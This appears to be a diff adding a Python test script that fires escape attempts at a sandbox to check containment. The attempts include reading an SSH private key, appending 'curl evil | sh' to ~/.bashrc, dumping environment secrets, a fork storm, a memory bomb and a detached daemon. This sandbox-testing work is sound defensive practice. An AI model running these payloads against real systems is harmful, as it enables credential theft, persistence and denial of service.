@@ -1,0 +1,95 @@
+"""Attack programs against sandbox.run_python, run by an ORDINARY user: `python sandbox_user_check.py`.
+
+tests/test_reward.py starts it as uid 65534 from a private (mode 700) directory holding its own venv and a
+copy of sandbox.py, with a HOME that holds a fake SSH key. It prints one JSON object: the sandbox mode and,
+per attack, whether it was contained. Standard library (and numpy, in the sandbox) only.
+"""
+
+import json
+import os
+import socket
+import sys
+import time
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import sandbox  # noqa: E402
+
+HOME = os.environ["HOME"]
+KEY, VICTIM, BASHRC = (os.path.join(HOME, p) for p in (".ssh/id_ed25519", "victim.txt", ".bashrc"))
+HERE = os.path.dirname(os.path.abspath(__file__))
+
+
+def alive(marker: str) -> bool:
+    for entry in os.listdir("/proc"):
+        try:
+            if entry.isdigit() and marker.encode() in open(f"/proc/{entry}/cmdline", "rb").read():
+                return True
+        except OSError:
+            pass
+    return False
+
+
+def main():
+    caps = sandbox.sandbox_caps()
+    key_text, victim_text, bashrc_text = (open(p).read() for p in (KEY, VICTIM, BASHRC))
+    out = {"mode": caps["mode"], "why": caps["why"], "uid": os.getuid(), "attacks": {}}
+
+    def record(name, contained, detail=""):
+        out["attacks"][name] = {"contained": bool(contained), "detail": str(detail)[-300:]}
+
+    r = sandbox.run_python(f"import os\ntry:\n    os.remove({VICTIM!r}); print('REMOVED')\nexcept OSError as e:\n    print(type(e).__name__)")
+    record("delete a file the user owns", os.path.exists(VICTIM) and open(VICTIM).read() == victim_text, r.stdout)
+    r = sandbox.run_python(f"print(open({KEY!r}).read())")
+    record("read ~/.ssh private key", key_text.strip() not in r.stdout + r.stderr, r.stdout or r.stderr)
+    r = sandbox.run_python(f"open({BASHRC!r}, 'a').write('curl evil | sh')")
+    record("write into HOME (~/.bashrc)", open(BASHRC).read() == bashrc_text, r.stderr)
+    r = sandbox.run_python("import os; print(sorted(os.listdir(os.path.expanduser('~'))))")
+    record("list the user's HOME", ".ssh" not in r.stdout, r.stdout)
+    target = os.path.join(sys.prefix, "pwned.txt")
+    r = sandbox.run_python(f"open({target!r}, 'w').write('x')")
+    record("write into the user's venv", not os.path.exists(target), r.stderr)
+    target = os.path.join(HERE, "sandbox.py")
+    before = open(target).read()
+    r = sandbox.run_python(f"open({target!r}, 'a').write('# pwned')")
+    record("change the project's code", open(target).read() == before, r.stderr)
+    r = sandbox.run_python("import subprocess\nr = subprocess.run(['mount', '-o', 'remount,rw', '/'], capture_output=True)\n"
+                           "print(r.returncode)\nopen('/escape.txt', 'w').write('x')")  # fmt: skip
+    record("remount the root read-write and write there", not r.ok, r.stdout + r.stderr)
+    r = sandbox.run_python("import numpy; print(numpy.arange(4).sum())")
+    record("import numpy (must WORK)", r.ok and r.stdout == "6\n", r.stdout + r.stderr)
+    srv = socket.socket()
+    srv.bind(("127.0.0.1", 0))
+    srv.listen()
+    port = srv.getsockname()[1]
+    r = sandbox.run_python(f"import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2); print('CONNECTED')\n"
+                           "except OSError as e:\n    print('blocked', e)")  # fmt: skip
+    srv.close()
+    record("network (a port on the host's loopback)", "CONNECTED" not in r.stdout, r.stdout)
+    os.environ["GRLO_SECRET"] = "hunter2-do-not-leak"
+    r = sandbox.run_python(f"import os\nprint(dict(os.environ))\ntry:\n    print(open('/proc/{os.getpid()}/environ').read())\n"
+                           "except OSError as e:\n    print('blocked', e)")  # fmt: skip
+    record("read the caller's environment", "hunter2" not in r.stdout + r.stderr, r.stdout[-200:])
+    r = sandbox.run_python(f"import os, signal\ntry:\n    os.kill({os.getpid()}, signal.SIGKILL)\nexcept OSError as e:\n    print('blocked', e)")
+    record("kill the caller", True, r.stdout)  # reaching this line is the proof
+    r = sandbox.run_python("while True:\n    pass", timeout_s=1.0)
+    record("infinite loop", r.timed_out, r)
+    r = sandbox.run_python("x = bytearray(1 << 31)", memory_mb=512)
+    record("memory bomb (2 GiB with a 512 MiB limit)", not r.ok and "MemoryError" in r.stderr, r.stderr[-100:])
+    start = time.monotonic()
+    r = sandbox.run_python("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass", timeout_s=2.0)
+    record("fork storm", r.timed_out and time.monotonic() - start < 5, r)
+    marker = f"grlo-user-daemon-{os.getpid()}"
+    code = ("import os, sys\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
+            f"        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(30)', {marker!r}])\n"
+            "    os._exit(0)\nimport time; time.sleep(0.5)")  # fmt: skip
+    r = sandbox.run_python(code, timeout_s=5.0)
+    time.sleep(0.2)
+    record("double-forked daemon outliving the call", not alive(marker), r)
+    r = sandbox.run_python("import os, time\nos.setsid()\ntime.sleep(60)", timeout_s=1.0)
+    record("leave the process group", r.timed_out, r)
+    out["self_check"] = sandbox.self_check()["mode"]
+    print(json.dumps(out))
+
+
+if __name__ == "__main__":
+    main()
